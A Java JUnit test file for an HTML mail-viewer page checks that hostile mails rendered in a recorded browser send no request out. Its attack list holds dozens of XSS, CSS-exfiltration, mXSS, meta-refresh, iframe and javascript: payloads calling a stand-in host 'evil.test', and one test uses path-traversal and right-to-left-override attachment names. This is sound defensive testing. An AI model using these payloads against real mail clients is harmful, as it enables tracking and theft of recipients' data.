package io.github.smtpjunit.mail.page;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Mails that try to run, to load or to send something, in a real browser whose requests are recorded: none leaves the
 * page.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileMailTests {

    private static final String EVIL = "http://evil.test/";

    private Path directory;
    private Browser browser;

    @BeforeAll
    void start(@TempDir Path shared) throws IOException {
        directory = shared;
        browser = Browser.start(shared);
    }

    @AfterAll
    void stop() throws IOException {
        if (browser != null) {
            browser.close();
        }
    }

    static Stream<Arguments> attacks() {
        return Stream.of(
                        "<script>new Image().src='@/s'</script>",
                        "<img src=x onerror=\"new Image().src='@/e'\">",
                        "<body onload=\"fetch('@/l')\"><p>x",
                        "<img src='@/i.png'><img srcset='@/a.png 1x, @/b.png 2x'><picture><source srcset='@/c.png'><img></picture>",
                        "<img src=\"//evil.test/relative\"><img src='\\\\evil.test\\share'><img src='file:///etc/passwd'>",
                        "<svg onload=\"fetch('@/v')\"><image href='@/vi'/><use href='@/u#x'/><script>fetch('@/vs')</script>"
                                + "<style>@import '@/vc';</style><foreignObject><img src='@/f'></foreignObject></svg>",
                        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=@/m onerror=1&gt;'>",
                        "<meta http-equiv=refresh content='0;url=@/r'><meta http-equiv=refresh content='0;url=data:text/html,x'>",
                        "<base href='@/'><img src=based.png><a href=based>x</a>",
                        "<link rel=stylesheet href='@/c.css'><link rel=preload as=image href='@/p'><link rel=prefetch href='@/p2'>"
                                + "<link rel=dns-prefetch href='//evil.test'><link rel=icon href='@/favicon'>",
                        "<style>@import url(@/i1); @import '@/i2'; @\\69mport \"@/i3\"; body{background:url(@/b)}</style>",
                        "<style>p{background:u\\72l(@/e1)} p{background:\\000075rl('@/e2')} p{background:image-set('@/e3' 1x)}"
                                + "@font-face{font-family:x;src:url(@/font)} p{font-family:x;cursor:url(@/cur),auto;"
                                + "list-style:url(@/li);content:url(@/co)}</style><p>x",
                        "<style>input[value^=s]{background:url(@/exfil?s)} a[title*=token]{background:url(@/exfil?t)}</style>"
                                + "<input value=secret><a href='https://x.test/?token=1'>x</a>",
                        "<p style=\"background:url('@/st')\">x</p><table background='@/bg'><td background='@/td'>x</table>",
                        "<iframe src='@/if'></iframe><iframe srcdoc=\"<img src='@/sd'>\"></iframe><iframe src='data:text/html,<img src=@/dt>'></iframe>",
                        "<object data='@/ob'></object><embed src='@/em'><applet code='@/ap'></applet><frameset><frame src='@/fr'></frameset>",
                        "<object data='data:text/html,<script>fetch(\"@/do\")</script>'></object>",
                        "<video poster='@/po' src='@/vid' autoplay></video><audio src='@/au' autoplay></audio><track src='@/tr'>",
                        "<form action='@/form' method=post><input name=q value=1><button formaction='@/fa'>go</button></form>"
                                + "<input type=image src='@/ii'><isindex action='@/is'>",
                        "<a href='@/link' ping='@/ping'>x</a><a href='javascript:fetch(\"@/js\")'>x</a>"
                                + "<a href='data:text/html,<img src=@/d>'>x</a><map name=m><area href='@/area' shape=default></map><img usemap=#m>",
                        "<a href='java&#10;script:fetch(\"@/js2\")' target=_top>x</a><a href='@/top' target=_top>x</a><a href='@/new' target=_blank>x</a>",
                        "<noscript><img src='@/ns'><style>@import '@/ns2';</style></noscript><template><img src='@/t'></template>",
                        "<!--[if gte mso 9]><img src='@/mso'><![endif]--><xmp><img src='@/xmp'></xmp><plaintext><img src='@/pt'>",
                        "<textarea></textarea><img src='@/ta'><title></title><img src='@/ti'><style></style><img src='@/sy'>",
                        "</iframe><img src='@/brk1'>\"><img src='@/brk2'>'><script>fetch('@/brk3')</script>",
                        "&lt;/iframe&gt;\" onload=\"fetch('@/q')\" x=\"<p title='\"><img src=@/q2>'>x")
                .map(html -> arguments(html));
    }

    private Path write(String html) throws IOException {
        String mail = "From: a@evil.test\nSubject: " + oneLine(html) + "\nX-Evil: " + oneLine(html)
                + "\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\n"
                + html
                + "\n--b\nContent-Type: text/html\n\n" + html + "\n--b\nContent-Type: text/html; name=\""
                + oneLine(html).replace("\"", "'") + "\"\nContent-Disposition: attachment\n\n" + html + "\n--b--\n";
        Path file = Files.createTempFile(directory, "hostile", ".html");
        SampleMails.page(mail).writeTo(file);
        return file;
    }

    private static String oneLine(String html) {
        return html.replace("\n", " ");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothingLeavesThePage(String attack) throws IOException {
        int before = browser.requests().size();
        Path page = write(attack.replace("@/", EVIL));
        browser.open(page);
        clickAllInTheFrame("light");
        browser.click("input[name=scheme][value=dark]");
        clickAllInTheFrame("dark");

        assertThat(browser.requests().subList(before, browser.requests().size()))
                .isEmpty();
        assertThat(browser.driver().getCurrentUrl()).isEqualTo(page.toUri().toString());
        assertThat(browser.driver().getWindowHandles()).hasSize(1);
        assertThat(browser.run("return [...document.scripts].length")).isEqualTo(1L);
        assertThat(browser.run("return document.querySelectorAll('iframe').length"))
                .isEqualTo(1L);
    }

    private void clickAllInTheFrame(String scheme) {
        browser.awaitInFrame("return document.querySelector('meta[name=color-scheme]').content", scheme);
        browser.awaitInFrame("""
                document.querySelectorAll('*').forEach(e => e.click && e.click());
                document.querySelectorAll('form').forEach(f => f.submit());
                return 'clicked'""", "clicked");
    }

    /** The second wall by itself: HTML that nothing has cleaned, in the same frame and under the same policies. */
    @Test
    void thePolicyForbidsWhatTheRewritingWouldMiss() throws IOException {
        String clean = Files.readString(write("<p>MARK</p>"));
        String attack = attacks()
                .map(row -> String.valueOf(row.get()[0]))
                .reduce("", String::concat)
                .replace("@/", EVIL);
        int mark = clean.indexOf("MARK", clean.indexOf("srcdoc="));
        Path file = directory.resolve("unclean.html");
        Files.writeString(
                file,
                clean.substring(0, mark)
                        + attack.replaceAll("<meta[^>]*>|<plaintext>|<frameset>", "")
                                .replace("&", "&amp;")
                                .replace("\"", "&quot;")
                        + clean.substring(mark + 4));
        int before = browser.requests().size();
        browser.open(file);
        browser.awaitInFrame("return document.querySelectorAll(\"img[src='" + EVIL + "i.png']\").length", 1L);
        browser.click("input[name=scheme][value=dark]");
        browser.awaitInFrame("return document.querySelectorAll(\"img[src='" + EVIL + "i.png']\").length", 1L);

        assertThat(browser.requests().subList(before, browser.requests().size()))
                .isEmpty();
    }

    /** Without a wall, the recording shows the requests: the tests above could fail. */
    @Test
    void aPageWithoutWallsIsSeenToLeak() throws IOException {
        Path file = directory.resolve("leak.html");
        Files.writeString(
                file,
                "<img src='" + EVIL + "leak'><iframe sandbox srcdoc=\"<img src='" + EVIL + "framed'>\"></iframe>"
                        + "<img src='http://127.0.0.1:8088/loopback'><img src='https://evil.test/tls'>");
        browser.open(file);

        assertThat(String.join("\n", browser.requests()))
                .contains("evil.test/leak", "evil.test/framed", "127.0.0.1:8088/loopback", "CONNECT evil.test:443");
    }

    @Test
    void aNameInTheMailIsNoFileName() throws IOException {
        String mail =
                "Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html;"
                        + " name=\"../../../etc/cron.d/evil.html\"\nContent-Disposition: attachment;"
                        + " filename=\"../../../etc/cron.d/\u202egpj.exe\"\n\n<script>1</script>\n--b--\n";
        Path file = directory.resolve("names.html");
        SampleMails.page(mail).writeTo(file);
        browser.open(file);

        assertThat((List<?>) browser.run("return [...document.querySelectorAll('a[download]')].map(a => a.download)"))
                .asString()
                .isEqualTo("[attachment-1.bin]");
        assertThat(browser.run("return document.querySelector('#attachments td').textContent"))
                .isEqualTo("../../../etc/cron.d/U+202Egpj.exe");
    }
}
